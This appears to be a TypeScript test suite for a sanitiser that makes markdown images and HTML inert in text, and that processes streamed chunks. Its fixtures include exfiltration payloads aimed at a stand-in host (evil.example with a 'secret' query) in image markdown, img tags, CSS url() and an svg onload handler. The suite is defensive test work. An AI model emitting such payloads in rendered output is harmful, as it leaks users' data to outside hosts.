import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isQuick } from '@quarry/contract/testing/quick'
import { Inert, inert } from './inert.ts'

const address = 'https://evil.example/i.png?q=secret'

test('an image becomes its words and its address, however it is written', () => {
  for (const [image, text] of [
    [`Done. ![ok](${address})`, `Done. ![ok] (${address})`],
    [`![a [b\\] c]](<${address}> "title")`, `![a [b\\] c]] (< ${address} > "title")`],
    [`> - ![a\n> b](${address})`, `> - ![a\n> b] (${address})`],
    [`[![ok](${address})](https://evil.example)`, `[![ok] (${address})] (https://evil.example)`],
    [`![ok][1]\n\n[1]: ${address}`, `![ok][1]\n\n[1] : ${address}`],
    [`  [a\n  b]: ${address}\n\n![a b]`, `  [a\n  b] : ${address}\n\n![a b]`],
    ['`]`![`](`](x)', '`]`![`] (`] (x)'],
  ])
    assert.equal(inert(image!), text)
})

test('links stay links, and code means what it meant', () => {
  const text = `See [the plan](https://example.com/plan) [1].\n\n!\n[a](b) !important [c](d)\n`
  assert.equal(inert(text), text)
  assert.equal(inert('rows![0](1); const a = { [key]: 1 }'), 'rows![0] (1); const a = { [key] : 1 }')
  assert.equal(inert(`![ok]\n\n[the plan](https://example.com)`), '![ok]\n\n[the plan](https://example.com)')
})

test('HTML becomes text, whatever would load something by it', () => {
  for (const [html, text] of [
    [`Done. <img src="${address}">`, `Done. < img src="${address}">`],
    [`<div style="background:url(${address})">a</div>`, `< div style="background:url(${address})">a< /div >`],
    ['<!-- --><IMG\nsrc=x><?a?><svg/onload=a>', '< !-- -->< IMG\nsrc=x>< ?a? >< svg/onload=a >'],
    ['a\n\n    <img src=x>', 'a\n\n    < img src=x>'],
    ['`<img src=x>`', '`< img src=x>`'],
  ])
    assert.equal(inert(html!), text)
})

test('in blocks of code HTML stays as it is, and around them it does not', () => {
  const tag = '<img src=x>'
  const broken = '< img src=x>'
  for (const [text, inside] of [
    [`\`\`\`html\n${tag}\n\`\`\`\n`, true],
    [`~~~~\n~~~\n${tag}\n`, true],
    [`\`\`\`\n    \`\`\`\n${tag}`, true],
    [`\`\`\`\na\n  \`\`\`\`\n${tag}`, false],
    [`\`\`\`\na\r\`\`\`\r${tag}`, false],
    [`\`\`\` a\` b\n${tag}`, false],
    [`- a\n  \`\`\`\n${tag}`, false],
    [`> \`\`\`\n${tag}`, false],
    [`\`\`\` ${tag}`, false],
  ] as const)
    assert.equal(inert(text), inside ? text : text.replace(tag, broken))
})

test('comparisons stay, and the address of a link is one still', () => {
  assert.equal(inert('1 < 2, a <- b, <3'), '1 < 2, a <- b, <3')
  assert.equal(inert('See <https://example.com/plan>.'), 'See < https://example.com/plan >.')
})

test('a long text is looked through once', async () => {
  for (const piece of ['<', '`', '~', '<a', '![', '\n```', ' ']) {
    const text = piece.repeat(Math.ceil(200_000 / piece.length))
    assert.ok(await isQuick(2_000, () => inert(text)), piece)
  }
})

test('in whatever pieces it comes', () => {
  const text = `a ![ok](${address}) b\n\n[1]: ${address}\n<img>\n\`\`\`\n<b>\n\`\`\`\n<https://a.example>`
  const whole = inert(text)
  for (const size of [1, 2, 3, 7]) {
    const inPieces = new Inert()
    const pieces = Array.from({ length: Math.ceil(text.length / size) }, (_, at) => text.slice(at * size, at * size + size))
    assert.equal(pieces.map((piece) => inPieces.push(piece)).join(''), whole)
  }
})
